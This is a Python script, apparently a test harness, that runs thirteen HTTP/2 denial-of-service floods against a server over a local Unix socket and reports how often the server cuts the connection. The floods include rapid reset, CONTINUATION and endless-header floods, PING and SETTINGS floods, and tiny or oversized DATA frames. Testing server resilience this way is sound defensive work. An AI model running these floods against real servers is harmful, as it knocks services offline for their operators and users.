"""Thirteen ways to keep a server busy with frames that cost nothing.

    python3 floods.py NAME SOCKET SECONDS

Floods for that long, connecting anew whenever it is cut off, and prints what
became of it as JSON: how often it connected and was cut, the longest time that
a connection lived (null: one was never cut), and the bytes that were taken.
"""

import itertools
import json
import select
import socket
import struct
import sys
import time

import http2
from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
                   PING, PRIORITY, RST_STREAM, SETTINGS, STATUS, WINDOW_UPDATE,
                   frame, header_block)

BATCH = 200
CANCEL = struct.pack(">I", 8)


def odd():
    return itertools.count(1, 2)


def joined(frames):
    """Batches of frames, so that the flood is the server's work, not ours."""
    while True:
        yield b"".join(itertools.islice(frames, BATCH))


def streams():
    """Calls without an end, by a client that acknowledges no SETTINGS."""
    block = header_block(STATUS)
    return (frame(HEADERS, END_HEADERS, stream, block) for stream in odd())


def rapid_reset():
    block = header_block(STATUS)
    return (frame(HEADERS, END_HEADERS, stream, block)
            + frame(RST_STREAM, 0, stream, CANCEL) for stream in odd())


def continuation():
    part = b"".join(http2.literal(f"x-{i}", "y" * 100) for i in range(100))
    yield frame(HEADERS, 0, 1, header_block(STATUS))
    while True:
        yield frame(CONTINUATION, 0, 1, part)


def acknowledged_continuation():
    yield frame(SETTINGS, ACK)
    yield from continuation()


def endless_string():
    """A header that declares a gibibyte, and goes on and on."""
    yield frame(HEADERS, 0, 1, header_block(STATUS) + b"\x00"
                + http2.text(b"x-long") + http2.number(1 << 30, 7))
    while True:
        yield frame(CONTINUATION, 0, 1, b"a" * 16_000)


def padded_numbers():
    """Sizes spelt with thousands of zeros."""
    padded = b"\x00\x7f" + b"\x80" * 15_000 + b"\x00"
    for stream in odd():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
                    header_block(STATUS) + padded)


def pings():
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings():
    values = struct.pack(">HIHI", 4, 65535, 1, 4096)
    while True:
        yield frame(SETTINGS, 0, 0, values)


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, header_block(STATUS))
    while True:
        yield frame(DATA, 0, 1)


def priorities():
    for stream in odd():
        yield frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, 7))


def window_updates():
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def crumbs():
    """Large messages, a byte in a frame."""
    for stream in odd():
        yield frame(HEADERS, END_HEADERS, stream, header_block(STATUS))
        yield frame(DATA, 0, stream, http2.message(b"", declared=100_000))
        for _ in range(50_000):
            yield frame(DATA, 0, stream, b"x")


def huge_messages():
    """Messages that declare a gibibyte."""
    for stream in odd():
        yield frame(HEADERS, END_HEADERS, stream, header_block(STATUS))
        yield frame(DATA, 0, stream, http2.message(b"x" * 16_000,
                                               declared=1 << 30))
        for _ in range(3):
            yield frame(DATA, 0, stream, b"x" * 16_000)


FLOODS = {flood.__name__: flood for flood in (
    streams, rapid_reset, continuation, acknowledged_continuation,
    endless_string, padded_numbers, pings, settings, empty_data, priorities,
    window_updates, crumbs, huge_messages)}


def flood_once(path, frames, deadline):
    """(how long until it was cut or None, bytes that were taken)"""
    begin = time.monotonic()
    taken = 0
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        try:
            connection.connect(path)
            connection.setblocking(False)
            pending = memoryview(http2.PREFACE + frame(SETTINGS))
            while time.monotonic() < deadline:
                if not pending:
                    pending = memoryview(next(frames))
                readable, writable, _ = select.select(
                    [connection], [connection], [], 0.1)
                # Answers are taken, so that a full buffer stops nothing.
                if readable and not connection.recv(1 << 20):
                    return time.monotonic() - begin, taken
                if writable:
                    sent = connection.send(pending[:1 << 18])
                    pending = pending[sent:]
                    taken += sent
        except BlockingIOError:
            return None, taken
        except OSError:
            return time.monotonic() - begin, taken
    return None, taken


def flood(name, path, seconds):
    deadline = time.monotonic() + seconds
    lives, taken, uncut = [], 0, False
    while time.monotonic() < deadline:
        life, count = flood_once(path, joined(FLOODS[name]()), deadline)
        taken += count
        if life is not None:
            lives.append(life)
        elif not lives:
            uncut = True
    return {"cuts": len(lives), "bytes": taken,
            "longest_s": None if uncut or not lives else max(lives)}


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
